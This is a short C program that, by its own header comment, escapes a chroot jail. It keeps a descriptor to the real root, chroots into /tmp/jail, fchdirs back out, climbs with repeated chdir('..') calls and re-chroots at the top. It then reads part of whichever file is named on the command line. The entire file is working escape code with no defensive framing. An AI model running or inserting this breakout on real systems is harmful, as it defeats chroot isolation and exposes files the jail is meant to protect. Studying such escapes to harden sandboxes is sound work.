/* escape FILE: leaves a chroot by the descriptor of a directory outside of it, climbs as high as it gets, and reads FILE. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  mkdir("/tmp/jail", 0755);
  int above = open("/", O_RDONLY);
  if (above < 0 || chroot("/tmp/jail") != 0 || fchdir(above) != 0) {
    printf("no chroot: %s\n", strerror(errno));
    return 1;
  }
  for (int i = 0; i < 1000; i++) (void)!chdir("..");
  if (chroot(".") != 0) return 1;
  char text[64];
  int fd = open(argv[1], O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
  if (n < 0) printf("%s\n", strerror(errno));
  else printf("read: %.*s\n", (int)n, text);
  return 0;
}
